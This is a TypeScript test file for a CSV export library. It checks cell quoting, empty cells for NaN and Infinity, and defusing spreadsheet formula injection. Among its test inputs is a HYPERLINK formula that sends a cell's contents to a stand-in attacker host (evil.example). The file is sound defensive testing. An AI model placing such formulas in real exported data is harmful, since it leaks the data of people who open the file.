import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, toCsv } from '@/lib/export/csv';

/** What the README tells a data scientist to do: drop the one apostrophe the writer added. */
const restore = (text: string) => (/^'+[=+\-@\t\r]/.test(text) ? text.slice(1) : text);

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks, and leaves numbers as they are', () => {
    expect(
      toCsv(
        ['name', 'n'],
        [
          ['a, "b"', 3],
          ['line\nbreak', -2.5],
          [null, true],
        ],
      ),
    ).toBe('name,n\r\n"a, ""b""",3\r\n"line\nbreak",-2.5\r\n,true\r\n');
  });

  it('defuses text that a spreadsheet would run as a formula', () => {
    expect(toCsv(['x'], [['=HYPERLINK("http://x")'], ['+A1'], ['-a'], ['@SUM(A1)'], ['\tcmd'], ['\r=1'], ['plain']])).toBe(
      'x\r\n"\'=HYPERLINK(""http://x"")"\r\n\'+A1\r\n\'-a\r\n\'@SUM(A1)\r\n\'\tcmd\r\n"\'\r=1"\r\nplain\r\n',
    );
  });
});

describe('csvCell', () => {
  it('writes an undefined figure (null, NaN, Infinity) as an empty cell, never as text', () => {
    expect(
      toCsv(
        ['group', 'rate'],
        [
          ['empty group', Number.NaN],
          ['no spread', Number.POSITIVE_INFINITY],
          ['nothing', null],
          ['zero', 0],
        ],
      ),
    ).toBe('group,rate\r\nempty group,\r\nno spread,\r\nnothing,\r\nzero,0\r\n');
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe('');
  });

  it('keeps plain numbers numeric, as numbers or as text', () => {
    for (const value of [-8, -0.5, '-8', '-0.5', '+3', '-1e5', '.5']) expect(csvCell(value)).toBe(String(value));
  });

  it('neutralises formulas that look almost like numbers', () => {
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('-8 ')).toBe("'-8 ");
    expect(csvCell('-Infinity')).toBe("'-Infinity");
    expect(csvCell('=1+1')).toBe("'=1+1");
  });

  it('loses nothing: removing the added apostrophe gives back every text, including ones that began with apostrophes', () => {
    for (const text of ["'=already quoted", "''@x", "'plain", 'it is fine', '=HYPERLINK("http://evil.example/?leak="&B2,"x")', '-8']) {
      expect(
        restore(
          csvCell(text)
            .replace(/^"(.*)"$/s, '$1')
            .replaceAll('""', '"'),
        ),
      ).toBe(text);
    }
  });

  it('the release file ends lines with \\n, downloads with \\r\\n', () => {
    expect(csvLine(['a', 1])).toBe('a,1\n');
    expect(csvLine(['a', 1], '\r\n')).toBe('a,1\r\n');
  });
});
